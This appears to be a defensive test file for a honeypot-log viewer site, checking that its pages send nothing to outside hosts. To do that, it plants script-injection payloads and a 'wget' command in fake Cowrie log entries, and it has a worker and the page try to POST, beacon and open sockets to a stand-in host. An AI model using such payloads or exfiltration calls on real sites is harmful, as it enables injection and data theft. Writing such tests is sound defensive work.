import {readFile} from "node:fs/promises";
import {join} from "node:path";
import type {Request} from "playwright-core";
import {expect, inject, it} from "vitest";
import {logFile, openLogs} from "./open-logs.js";
import {type OpenedPage, openPage, settle} from "./open-page.js";
import {findPages} from "./site.js";
import {useTestedSite} from "./tested-site.js";

const site = useTestedSite();
const elsewhere = "http://elsewhere.example/collect";

/** A word that stands in a log and nowhere else. */
const secret = "xyzzy-8c1f0d";

const login = (second: number, more: object) =>
  JSON.stringify({
    eventid: "cowrie.login.failed",
    timestamp: `2026-03-01T12:30:${String(second).padStart(2, "0")}.000000Z`,
    src_ip: "198.51.100.7",
    session: "0123456789ab",
    username: secret,
    password: secret,
    protocol: "ssh",
    sensor: "sensor",
    ...more
  });

const hostile = [
  `<img src="${elsewhere}?img"><script>fetch("${elsewhere}?script")</script>`,
  `http://elsewhere.example/${secret}`,
  `"><link rel="stylesheet" href="${elsewhere}?style">`
];
const log = logFile(
  "cowrie.json",
  [
    ...Array.from({length: 20}, (_, i) => login(i, {})),
    ...hostile.map((text, i) =>
      login(30 + i, {eventid: "cowrie.command.input", input: `wget ${text}`, message: text, username: text})
    )
  ].join("\n")
);

/** Everything that the pages of a context and their workers ask for. */
function listen({page}: OpenedPage): Request[] {
  const requests: Request[] = [];
  page.context().on("request", request => requests.push(request));
  return requests;
}

it("whatever a page or a worker sends out, this test sees or the page's policy stops", async () => {
  const opened = await openPage(site.browser, site.url);
  const requests = listen(opened);
  await opened.page.route(/sender\.js$/, route =>
    route.fulfill({
      contentType: "text/javascript",
      body: `const tell = () => postMessage("tried");
        fetch("${elsewhere}?worker", {method: "POST", body: "x", mode: "no-cors"}).then(tell, tell);`
    })
  );
  const stopped = await opened.page.evaluate(async url => {
    const violations: string[] = [];
    document.addEventListener("securitypolicyviolation", event => violations.push(event.blockedURI));
    await fetch(`${url}?fetch`, {method: "POST", body: "x", mode: "no-cors"}).catch(() => {});
    navigator.sendBeacon(`${url}?beacon`, "x");
    new Image().src = `${url}?image`;
    try {
      new WebSocket("ws://elsewhere.example/socket");
    } catch {}
    await fetch("index.html", {method: "POST", body: "x"}).catch(() => {});
    await new Promise(resolve => {
      const worker = new Worker("./sender.js", {type: "module"});
      worker.onmessage = resolve;
      worker.onerror = resolve;
    });
    await new Promise(resolve => setTimeout(resolve, 200));
    return violations;
  }, elsewhere);
  expect(stopped.filter(uri => uri.startsWith(elsewhere)).length).toBeGreaterThanOrEqual(3);
  // The policy is that of the page: what a worker or a socket tries is seen on its way out.
  expect(opened.foreignRequests).toContain(`${elsewhere}?worker`);
  expect([...stopped, ...opened.foreignRequests].some(uri => uri.startsWith("ws://elsewhere.example"))).toBe(
    true
  );
  expect(requests.filter(request => request.method() === "POST").map(request => request.url())).toEqual(
    expect.arrayContaining([`${site.url}index.html`, `${elsewhere}?worker`])
  );
  await opened.close();
});

it("opening logs and reading every page sends nothing: files of the site are asked for, and nothing else", async () => {
  const opened = await openPage(site.browser, `${site.url}data.html`);
  const {page, foreignRequests, errors} = opened;
  const requests = listen(opened);
  await openLogs(page, [log]);
  for (const path of await findPages(inject("site"))) {
    if (path.startsWith("test/")) continue;
    await page.goto(site.url + path, {waitUntil: "load"});
    await settle(page);
    expect(await page.locator("html").getAttribute("data-workspace")).toBe("shown");
  }
  expect({foreignRequests, errors}).toEqual({foreignRequests: [], errors: []});
  expect(requests.length).toBeGreaterThan(50);
  for (const request of requests) {
    const url = new URL(request.url());
    if (url.protocol === "blob:" || url.protocol === "data:") continue;
    expect(request.method()).toBe("GET");
    expect(request.postDataBuffer()).toBeNull();
    expect(request.url()).not.toContain(secret);
    expect(JSON.stringify(request.headers())).not.toContain(secret);
    expect(url.search).toBe("");
    // Each is a file that was there before any log was.
    const file = decodeURIComponent(url.pathname.slice(new URL(site.url).pathname.length)) || "index.html";
    await readFile(join(inject("site"), file));
  }
  await opened.close();
});
